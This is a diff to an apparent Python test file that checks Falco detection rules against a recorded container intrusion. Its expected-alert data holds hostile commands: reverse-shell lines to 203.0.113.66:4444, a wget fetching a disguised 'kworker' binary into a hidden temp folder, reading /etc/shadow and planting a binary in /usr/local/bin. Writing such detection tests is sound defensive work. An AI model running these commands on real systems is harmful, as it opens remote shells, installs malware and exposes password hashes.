@@ -16,6 +16,7 @@ OFFICIAL_FILES = ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules"
 SHOP, HOST = "5d4c9e0f1b7a", "host"
 BREAK_IN = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
 QUOTED_BREAK_IN = "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
+FETCH = "wget -q -O /tmp/.x/kworker http://203.0.113.66/kworker"
 
 EXPECTED = [
     ("Container with host-like capabilities", SHOP, "lighttpd -D -f /etc/lighttpd/lighttpd.conf"),
@@ -29,13 +30,17 @@ EXPECTED = [
     ("Standard stream redirected to a connection", SHOP, BREAK_IN),
     ("Shell in a container", SHOP, "bash -i"),
     ("Shell reads from a connection", SHOP, "bash -i"),
+    ("Server program looks around", SHOP, "id"),
     ("Password hashes read", SHOP, "cat /etc/shadow"),
     ("Link to a credential file", SHOP, "ln -s /etc/shadow /srv/www/robots.bak"),
     ("File created below dev", SHOP, "cp /srv/www/robots.bak /dev/.cache"),
+    ("Server program fetches a file", SHOP, FETCH),
     ("Program disguised as a thread of the kernel", SHOP, "kworker"),
     ("Program in a hidden place executed", SHOP, "kworker"),
     ("New program executed in a container", SHOP, "kworker"),
     ("Program in a temporary folder executed", SHOP, "kworker"),
+    ("File from outside executed", SHOP, "kworker"),
+    ("File in memory made by a script", SHOP, "kworker"),
     ("Program executed from memory", SHOP, "memfd:x"),
     ("Program disguised as a thread of the kernel", SHOP, "memfd:x"),
     ("Program placed in a binary directory", SHOP, "cp /tmp/.x/kworker /usr/local/bin/free"),
@@ -129,7 +134,7 @@ def alerts_of(path: Path) -> list[tuple[str, str, str]]:
     with ft.open(path) as opened:
         alerts = sorted(opened.scan(ft.rules()), key=lambda alert: alert.num)
         return [
-            (alert.rule.name, str(fields["container.id"]), str(fields["proc.cmdline"]))
+            (alert.rule.name, str(fields["container.id"]), str(fields.get("proc.cmdline", "")))
             for alert in alerts
             for fields in [alert.output_fields]
         ]
